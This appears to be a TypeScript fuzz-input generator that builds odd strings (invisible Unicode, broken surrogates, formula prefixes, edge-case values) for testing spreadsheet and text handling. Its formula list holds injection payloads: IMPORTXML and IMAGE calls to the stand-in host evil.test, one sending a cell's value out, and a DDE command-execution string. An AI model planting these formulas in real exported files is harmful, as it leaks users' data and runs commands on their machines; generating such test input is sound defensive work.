/**
 * Texts that sheets, formulas, readers of files and cleaners of texts like to turn into something else. Drawn from
 * pieces, so that a hidden character in front of a sign in front of a formula is as likely as each of them alone.
 */

type Chance = () => number;

const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠', "'", '’', "''", '"', '\t', '|', '%', '^', ';', '='];
const hidden = [
  ...['\u0000', '\u0001', '\u0007', '\u000b', '\u001f', '\u007f', '\u0085', '\u009f'],
  ...['\u00a0', '\u00ad', '\u034f', '\u061c', '\u115f', '\u1680', '\u180e', '\u2000', '\u2003', '\u200b', '\u200c'],
  ...['\u200d', '\u200e', '\u200f', '\u2028', '\u2029', '\u202a', '\u202e', '\u202f', '\u205f', '\u2060', '\u2061'],
  ...['\u2066', '\u2068', '\u2069', '\u206f', '\u3000', '\u3164', '\ufe0f', '\ufeff', '\uffa0', '\ufff9', '\ufffb'],
  ...['\u{e0001}', '\u{e0020}', '\u{1d173}', ' ', '  ', '\t', '\n', '\r\n', '\r'],
];
const broken = [
  '\ud800',
  '\udbff',
  '\udc00',
  '\udfff',
  '\udc00\ud800',
  '\ufffe',
  '\uffff',
  '\ufffd',
  '\u{10ffff}',
  '\u{1fffe}',
];
const composed = [
  'é',
  'e\u0301',
  'Å',
  'A\u030a',
  '\u212b',
  'ạ̈',
  'ﬁ',
  '한',
  '\u1112\u1161\u11ab',
  '½',
  '㈱',
  '０１２',
  'ｱ',
  '\u0301',
];
const joined = ['👨‍👩‍👧‍👦', '🏳️‍🌈', '👩🏽‍💻', '🇨🇳', '1️⃣', 'می‌خواهم', 'क्‍ष', 'नु‌क्ता', '☺︎', 'ﷺ', 'שלום', 'مرحبا'];
const formulas = [
  ...['1+1', 'SUM(A1:A9)', 'IMPORTXML("http://evil.test/?"&A1,"//a")', 'HYPERLINK("http://evil.test","x")', '1'],
  ...[
    'IMAGE("http://evil.test/x.png")',
    "cmd|' /C calc'!A0",
    'A1',
    '{1,2}',
    'NOW()',
    'x',
    '',
    '"',
    '-1',
    '86 138 0013 8000',
  ],
];
const values = [
  ...['1E5', '1e-7', 'TRUE', 'false', '007', '3-4', '1/2', '2024-03-01', '13:00', '10%', '¥100', '1,000', '0x1F', '.5'],
  ...['#REF!', '#N/A', '#NAME?', '#DIV/0!', '+86 138 0013 8000', '+8613800138000', '138-0013-8000', '(02) 2345-6789'],
  ...["'t Hooft", "''quoted''", "'=1", '_x0041_', '_x000D_', '&amp;', ']]>', '<b>', '\\n', '%00', '\\u0000', 'null'],
  ...[
    'undefined',
    'NaN',
    'Infinity',
    '-0',
    '__proto__',
    'constructor',
    '{}',
    '[]',
    'Jan 5',
    '5月3日',
    '上午9:00',
    '√',
    '，，',
  ],
];
const words = ['甲公司', '客户', '預算', 'Sakura', 'x', 'a b', '需要 CRM', '全角　空格', '，', '。', '…', '🙂'];
const plain = [...words, ...values, ...joined, ...composed];

/** One text of up to some dozen characters; now and then a very long one. */
export function strangeText(chance: Chance): string {
  const draw = (pieces: readonly string[]): string => pieces[Math.floor(chance() * pieces.length)] ?? '';
  const some = (pieces: readonly string[], most: number): string =>
    Array.from({ length: Math.floor(chance() * (most + 1)) }, () => draw(pieces)).join('');
  const shapes: readonly (() => string)[] = [
    () => some(hidden, 3) + draw(signs) + draw(formulas),
    () => some(hidden, 2) + draw(signs) + some(signs, 2) + draw(plain),
    () => some(hidden, 1) + draw(values) + some(hidden, 1),
    () => draw(plain) + some(hidden, 2) + draw(plain),
    () => some(plain, 3),
    () => some(hidden, 3) + draw(broken) + draw(words) + draw(broken),
    () => anyCharacters(chance, 12),
    () => `${draw(signs)}${anyCharacters(chance, 4)}`,
  ];
  const text = shapes[Math.floor(chance() * shapes.length)]?.() ?? '';
  return chance() < 0.0005 ? stretched(text || 'x', chance() < 0.1 ? 49_000 : 3_000) : text;
}

function anyCharacters(chance: Chance, most: number): string {
  const planes = [0x80, 0x250, 0x3000, 0x10000, 0x110000];
  return Array.from({ length: Math.floor(chance() * most) }, () => {
    const plane = planes[Math.floor(chance() * planes.length)] ?? 0x80;
    return String.fromCodePoint(Math.floor(chance() * plane));
  }).join('');
}

function stretched(text: string, length: number): string {
  return text.repeat(Math.ceil(length / text.length)).slice(0, length);
}
